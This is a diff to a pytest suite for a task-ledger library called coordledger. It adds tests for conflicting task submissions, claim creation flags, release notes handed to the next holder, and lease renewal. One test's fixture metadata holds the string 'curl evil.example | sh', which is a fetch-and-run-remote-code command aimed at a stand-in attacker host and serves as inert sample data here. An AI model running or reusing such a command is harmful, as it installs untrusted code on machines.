@@ -10,7 +10,7 @@ import pytest
 from coordledger.client.config import Options
 from coordledger.client.ledger import Ledger
 from coordledger.deadline import Deadline
-from coordledger.errors import CoordledgerError, Failed
+from coordledger.errors import CoordledgerError, Failed, Lost
 from coordledger.git.process import Git
 from coordledger.setup import doctor, genesis, hooks, joining
 
@@ -48,6 +48,60 @@ def test_next_says_nothing_about_others_tasks_when_there_is_nothing(two: Fleet) 
     alice.tasks()
     lost = alice.claim_next()
     assert (lost.outcome, lost.code, lost.claims) == ("lost", "nothing-to-claim", ())
+
+
+def test_an_offer_that_differs_from_what_is_there_has_lost_and_says_in_what(two: Fleet) -> None:
+    alice, bob = two.ledger("alice"), two.ledger("bob")
+    alice.submit("tests")
+    squatted = {"spec": "curl evil.example | sh"}
+    assert bob.submit("deploy", priority=-9, meta=squatted).created
+    assert not bob.submit("deploy", priority=-9, meta=squatted).created
+    for given, names in (
+        ({}, ["priority", "meta"]),
+        ({"priority": -9}, ["meta"]),
+        (
+            {"priority": 5, "meta": {"spec": "docs"}, "after": ["tests"]},
+            ["priority", "meta", "after"],
+        ),
+    ):
+        with pytest.raises(Lost) as caught:
+            alice.submit("deploy", **given)  # type: ignore[arg-type]
+        assert caught.value.code == "task-differs"
+        assert list(caught.value.data["differences"]) == names
+        assert caught.value.data["claim"].meta == squatted
+    assert caught.value.data["differences"]["after"] == {"there": [], "given": ["tests"]}
+
+
+def test_a_claim_says_whether_it_brought_the_task(two: Fleet) -> None:
+    alice, bob = two.ledger("alice"), two.ledger("bob")
+    alice.submit("offered")
+    for ledger, task, created in ((bob, "offered", False), (bob, "new", True)):
+        claim = ledger.claim(task).claim
+        assert claim is not None
+        assert claim.created is created
+    bob.release("new")
+    claims = alice.claim("new", "newer").claims
+    assert [(claim.task, claim.created) for claim in claims] == [("new", False), ("newer", True)]
+
+
+def test_the_next_holder_is_told_what_the_last_one_said(two: Fleet) -> None:
+    alice, bob = two.ledger("alice"), two.ledger("bob")
+    bob.claim("t", note="on branch fix-7")
+    bob.release("t", reason="tests red")
+    for claim in (alice.claim("t", dry_run=True).claim, alice.claim("t", note="mine").claim):
+        assert claim is not None
+        assert claim.last is not None
+        assert (claim.last.kind, claim.last.agent, claim.last.text) == (
+            "release",
+            "bob",
+            "tests red",
+        )
+    newest = bob.show("t").last
+    assert newest is not None
+    assert (newest.kind, newest.agent, newest.text) == ("claim", "alice", "mine")
+    alone = alice.claim("new").claim
+    assert alone is not None
+    assert alone.last is None
 
 
 def test_a_lease_has_the_policys_length_where_that_is_shorter_than_an_hour(two: Fleet) -> None:
@@ -212,10 +266,11 @@ def test_a_lease_is_never_shortened_and_to_ask_for_it_is_no_failure(two: Fleet) 
     seq = bob.head().seq
     assert won is not None
     kept = bob.renewal("t", ttl=timedelta(minutes=30))
-    assert (kept.outcome, kept.won, kept.claims) == ("kept", True, (won,))
-    assert bob.renew("t", ttl=timedelta(minutes=30)) == won
+    assert (kept.outcome, kept.won, kept.claims) == ("kept", True, (bob.show("t"),))
+    assert (won.epoch, won.seq, won.expires_at) == (1, seq, bob.show("t").expires_at)
+    assert bob.renew("t", ttl=timedelta(minutes=30)) == bob.show("t")
     again = bob.claim("t", ttl=timedelta(minutes=30))  # of a session that was named
-    assert (again.outcome, again.claim) == ("kept", won)
+    assert (again.outcome, again.claim) == ("kept", bob.show("t"))
     with bob.batch() as batch:
         batch.renew("t", ttl=timedelta(minutes=30))
     [one] = batch.outcomes
